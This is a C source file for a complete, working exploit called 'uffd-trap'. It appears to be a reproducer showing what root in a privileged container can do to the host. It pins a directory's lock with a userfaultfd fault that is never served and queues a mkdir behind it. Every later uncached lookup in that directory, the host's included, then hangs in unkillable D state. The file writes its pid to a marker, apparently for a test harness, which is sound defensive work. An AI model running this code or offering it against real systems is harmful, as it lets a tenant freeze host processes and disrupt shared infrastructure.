/*
 * uffd-trap DIR: what a hostile tenant (root in a privileged container) can
 * do to every host process that looks up a name in one of its folders.
 *
 * One thread reads DIR's entries (getdents64) into a page registered with
 * userfaultfd whose fault is never served: the kernel holds DIR's lock
 * (shared) for as long as the fault waits. A second thread then mkdirs
 * inside DIR and queues for the lock (exclusive). From then on every
 * lookup of a name in DIR that is not in the dentry cache (host root's
 * openat2 included) queues behind that mkdir and sleeps uninterruptibly
 * (D state: SIGKILL does not end it) until this program lets go, which it
 * does only when it is killed.
 *
 * Once the trap is set it writes its pid to DIR/../trapped.
 * Built static, so that it runs in any container.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *dir;

static void die(const char *what)
{
    perror(what);
    exit(1);
}

static void *reader(void *page)
{
    int fd = open(dir, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        die("open");
    /* Faults on `page` while the folder's lock is held: waits for ever. */
    syscall(SYS_getdents64, fd, page, 4096);
    return NULL;
}

static void *maker(void *unused)
{
    char path[4096];
    (void)unused;
    snprintf(path, sizeof path, "%s/queued", dir);
    /* Queues for the folder's lock, behind the reader. */
    mkdir(path, 0700);
    return NULL;
}

int main(int argc, char **argv)
{
    pthread_t r, m;
    struct uffdio_api api = { .api = UFFD_API };
    struct uffdio_register reg;
    struct uffd_msg msg;
    struct pollfd pfd;
    char marker[4096];
    void *page;
    int uffd;

    if (argc != 2) {
        fprintf(stderr, "usage: uffd-trap DIR\n");
        return 2;
    }
    dir = argv[1];
    uffd = syscall(SYS_userfaultfd, O_CLOEXEC);
    if (uffd < 0)
        die("userfaultfd");
    if (ioctl(uffd, UFFDIO_API, &api) < 0)
        die("UFFDIO_API");
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED)
        die("mmap");
    memset(&reg, 0, sizeof reg);
    reg.range.start = (unsigned long)page;
    reg.range.len = 4096;
    reg.mode = UFFDIO_REGISTER_MODE_MISSING;
    if (ioctl(uffd, UFFDIO_REGISTER, &reg) < 0)
        die("UFFDIO_REGISTER");
    if (pthread_create(&r, NULL, reader, page))
        die("pthread_create");
    /* The reader has faulted once its fault is reported; never answered. */
    pfd.fd = uffd;
    pfd.events = POLLIN;
    if (poll(&pfd, 1, 10000) != 1 || read(uffd, &msg, sizeof msg) != sizeof msg)
        die("waiting for the fault");
    if (pthread_create(&m, NULL, maker, NULL))
        die("pthread_create");
    sleep(1);
    snprintf(marker, sizeof marker, "%s/../trapped", dir);
    FILE *f = fopen(marker, "w");
    if (!f)
        die("marker");
    fprintf(f, "%d\n", (int)getpid());
    fclose(f);
    for (;;)
        pause();
}
